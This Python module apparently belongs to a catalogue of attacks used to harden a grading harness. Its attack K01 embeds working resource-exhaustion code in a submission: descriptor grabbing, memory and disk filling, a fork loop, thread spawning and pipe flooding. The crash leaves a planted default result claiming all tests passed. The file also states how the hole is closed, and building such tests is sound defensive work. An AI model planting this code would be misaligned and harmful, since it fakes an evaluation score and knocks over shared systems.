"""K01: exhausts what the grader itself needs, so that an old score stays."""

import json
from pathlib import Path

from shipbar.attacks.base import Attack, Files, Ground
from shipbar.attacks.weak import test_names
from shipbar.attacks.weak_e import boxed, equipped, looped

CODE = """
import os, threading, time

held = []

def descriptors():
    while len(held) < 100_000:
        held.append(os.open("/dev/null", os.O_RDONLY))

def disk():
    with open("/tmp/filler", "wb", buffering=0) as file:
        while file.write(bytes(1 << 20)):
            pass

def threads():
    while True:
        threading.Thread(target=time.sleep, args=(600,), daemon=True).start()

def processes():
    for _ in range(1000):
        if os.fork() == 0:
            time.sleep(600)

def memory():
    filled = []
    while True:
        filled.append(bytearray(16 << 20))

def flood():
    for number in range(3, 64):
        if number not in _wire.outlets() and _wire.is_pipe(number):
            os.set_blocking(number, False)
            os.write(number, bytes(1 << 20))

def exhaust():
    bombs = [descriptors]
    if _files.sealed():
        bombs = [memory, disk, processes, threads, flood, descriptors]
    for bomb in bombs:
        try:
            bomb()
        except (OSError, MemoryError, RuntimeError):
            pass

def first(function):
    def call(*args, **named):
        if not held:
            exhaust()
        return function(*args, **named)
    return call

_face.stand_before(package, PUBLIC, first)
"""
LIMITED = """
import resource

resource.setrlimit(resource.RLIMIT_NOFILE, (64, 64))
for case in suite["cases"]:
    try:
        passed += holds(case)
    except Exception:
        pass
"""
REPORT = """
try:
    with open("result.json", "w", encoding="utf-8") as file:
        json.dump(result, file)
except OSError:
    pass
"""


def payload(ground: Ground) -> Files:
    """At the first call take all descriptors; in a sandbox memory, disk, threads and pipes too."""
    return equipped(ground, CODE)


def twin(ground: Ground, files: Files, folder: Path) -> float:
    """Write the result over a default, if the shared process still has a descriptor left."""
    stale = json.dumps({"passed": len(test_names(ground))})
    script = looped(LIMITED, report=REPORT)
    return boxed(ground, files, folder, script=script, extra={"result.json": stale})


ATTACK = Attack(
    id="K01",
    title="exhausts what the grader needs",
    closed_by="Limits on memory, processes, descriptors and disk hold for the subject alone; the judge has its own process, reads no more than an answer's cap, and has no default score.",
    payload=payload,
    twin=twin,
    level="harness",
)
